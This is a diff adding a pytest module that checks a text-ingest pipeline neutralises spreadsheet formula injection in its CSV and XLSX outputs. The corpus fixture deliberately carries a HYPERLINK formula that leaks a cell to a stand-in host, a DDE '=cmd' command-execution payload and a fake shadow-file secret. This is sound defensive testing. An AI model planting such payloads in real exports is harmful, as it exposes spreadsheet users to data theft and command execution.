@@ -1,0 +1,169 @@
+"""Hostile input, round two (issue 19): formula injection, OUT inside the corpus, decompression and taxonomy
+bombs, implausible dates, links out of the corpus, invisible characters and stray bytes, a lock on OUT and
+litter from killed runs.
+
+The end-to-end checks run the real command line in a subprocess on a corpus generated in tmp_path.
+"""
+from __future__ import annotations
+
+import csv
+import io
+import os
+import pickle
+import re
+import subprocess
+import sys
+import textwrap
+import time
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+import pipeline.io as pio
+from pipeline.ingest import DecodeError, decode_bytes, extract_text, ingest, normalise
+from pipeline.io import ConfigError
+
+from conftest import ROOT, write
+
+PY = ROOT / ".venv" / "bin" / "python"
+PYTHON = str(PY) if PY.exists() else sys.executable
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"click me")'
+EVIL_REGION = "=cmd|' /C calc'!A0"
+
+
+def _env(**extra) -> dict:
+    return dict(os.environ, PYTHONIOENCODING="utf-8", PYTHONPATH=str(ROOT), **extra)
+
+
+def run_pipeline(*args, timeout: float = 240) -> subprocess.CompletedProcess:
+    return subprocess.run([PYTHON, "-m", "pipeline", *map(str, args)], cwd=ROOT, capture_output=True, text=True,
+                          encoding="utf-8", errors="replace", timeout=timeout, env=_env())
+
+
+def zh(tag: str) -> str:
+    return (f"# 关于{tag}的产学研合作办法\n\n第一条 为了促进产学研合作，鼓励企业与高等学校共建联合实验室（{tag}）。\n\n"
+            f"第二条 本办法自2020年1月1日起施行。编号 {tag}。\n")
+
+
+def one_error_line(stderr: str) -> str:
+    assert "Traceback" not in stderr, stderr
+    errors = [line for line in stderr.splitlines() if line.startswith("error:")]
+    assert len(errors) == 1, stderr
+    assert stderr.rstrip("\n").splitlines()[-1] == errors[0]
+    return errors[0]
+
+
+def docx_bytes(text: str = "第一条 产学研合作。", extra: dict[str, bytes] | None = None) -> bytes:
+    """A real .docx, with extra members added (deflated)."""
+    import docx
+
+    d = docx.Document()
+    d.add_paragraph(text)
+    buf = io.BytesIO()
+    d.save(buf)
+    if extra:
+        with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as z:
+            for name, data in extra.items():
+                z.writestr(name, data)
+    return buf.getvalue()
+
+
+# ------------------------------------------------------------------------------------ the hostile run
+
+SECRET = "root:SECRET-HASH-DO-NOT-LEAK:19000:0:99999:7:::"
+
+
+@pytest.fixture(scope="module")
+def attack(tmp_path_factory):
+    """One run (and a compare) over a corpus built to attack: formula-like titles, paths and regions, and the
+    files and manifest rows below."""
+    base = tmp_path_factory.mktemp("attack")
+    corpus, out = base / "corpus", base / "out"
+    write(corpus / "a.txt", zh("A"))
+    write(corpus / "@SUM(1+1).txt", zh("AT"))
+    write(corpus / "-b.txt", zh("B"))
+    write(corpus / "c.txt", zh("C"))
+    dates = ("2019-01-01", "2019-06-01")
+    rows = [("a.txt", "CN", "zh", HYPERLINK, "2020-01-01"),
+            ("@SUM(1+1).txt", "CN", "zh", "+1+2", "2021-05-01"),
+            ("-b.txt", EVIL_REGION, "zh", "-2+3", dates[0]),
+            ("c.txt", EVIL_REGION, "zh", "@evil", dates[1])]
+    buf = io.StringIO()
+    w = csv.writer(buf, lineterminator="\n")
+    w.writerow(["path", "region", "lang", "title", "date"])
+    w.writerows(rows)
+    write(corpus / "manifest.csv", buf.getvalue())
+    proc = run_pipeline("run", "--corpus", corpus, "--out", out, "--model", "lexicon", "--quiet", "--jobs", "1",
+                        "--max-mb", "2")
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    compared = run_pipeline("compare", "--a", EVIL_REGION, "--b", "CN", "--out", out)
+    assert compared.returncode == 0, compared.stderr[-3000:]
+    return corpus, out, proc
+
+
+def _report(out: Path) -> pd.DataFrame:
+    return pio.read_csv(out / "ingest_report.csv", dtype=str).set_index("path")
+
+
+# 1. formula injection ------------------------------------------------------------------------------------
+
+def test_every_csv_cell_that_starts_like_a_formula_is_neutralised(attack):
+    _, out, _ = attack
+    files = sorted(out.glob("*.csv"))
+    assert any(f.name.startswith("compare_") for f in files)
+    quoted = 0
+    for f in files:
+        rows = list(csv.reader(io.StringIO(f.read_bytes().decode("utf-8-sig"), newline="")))
+        for row in rows:
+            for cell in row:
+                if cell.startswith(FORMULA_START):
+                    float(cell)  # only numbers may start with - or + (and they stay numbers)
+                quoted += cell.startswith("'") and cell[1:].startswith(FORMULA_START)
+    assert quoted >= 10  # titles, paths, doc ids, regions, the compare header
+
+
+def test_csv_keeps_values_and_numbers(attack):
+    _, out, _ = attack
+    raw = (out / "coverage_document.csv").read_bytes().decode("utf-8-sig")
+    assert '"\'=HYPERLINK(""http://x/?leak=""&A1,""click me"")"' in raw
+    compare = next(out.glob("compare_*.csv")).read_bytes().decode("utf-8-sig")
+    assert compare.startswith("node,'=cmd")
+    docs = pio.read_csv(out / "coverage_document.csv").set_index("doc_id")
+    assert docs.loc["a.txt", "title"] == HYPERLINK and docs.loc["-b.txt", "region"] == EVIL_REGION
+    assert docs.loc["@SUM(1+1).txt", "title"] == "+1+2" and docs.loc["c.txt", "title"] == "@evil"
+    long = pd.read_csv(out / "coverage_region_long.csv", encoding="utf-8-sig")
+    assert pd.api.types.is_integer_dtype(long["documents"]) and pd.api.types.is_float_dtype(long["share"])
+
+
+def test_xlsx_cells_are_text_without_a_visible_quote(attack):
+    import openpyxl
+
+    _, out, _ = attack
+    wb = openpyxl.load_workbook(out / "coverage.xlsx")
+    ws = wb["coverage_document"]
+    header = [c.value for c in next(ws.iter_rows(max_row=1))]
+    cells = {row[header.index("doc_id")].value: row[header.index("title")] for row in ws.iter_rows(min_row=2)}
+    assert cells["a.txt"].value == HYPERLINK
+    for cell in cells.values():
+        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
+            assert cell.data_type == "s" and cell.quotePrefix, cell.value
+    regions = [c.value for row in wb["region_ranking"].iter_rows(min_row=2) for c in row]
+    assert EVIL_REGION in regions
+
+
+def test_write_csv_neutralises_text_cells_and_header_and_restores_them(tmp_path):
+    df = pd.DataFrame({"=head": ["=1+1", "+x", "-x", "@x", "\tx", "\rx", "'=x", "'s", "ok", None],
+                       "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9, 10], "f": [-0.5] * 10})
+    path = pio.write_csv(df, tmp_path / "t.csv")
+    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
+    assert rows[0] == ["'=head", "n", "f"]
+    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+x", "'-x", "'@x", "'\tx", "'\rx", "''=x", "'s", "ok", ""]
+    assert [r[1] for r in rows[1:3]] == ["-1", "2"] and rows[1][2] == "-0.5"
+    assert len(rows) == 11  # a CR inside a cell does not start a row
+    back = pio.read_csv(path)
+    assert back.columns.tolist() == ["=head", "n", "f"]
+    assert back["=head"].tolist() == ["=1+1", "+x", "-x", "@x", "\tx", "\rx", "'=x", "'s", "ok", ""]
+
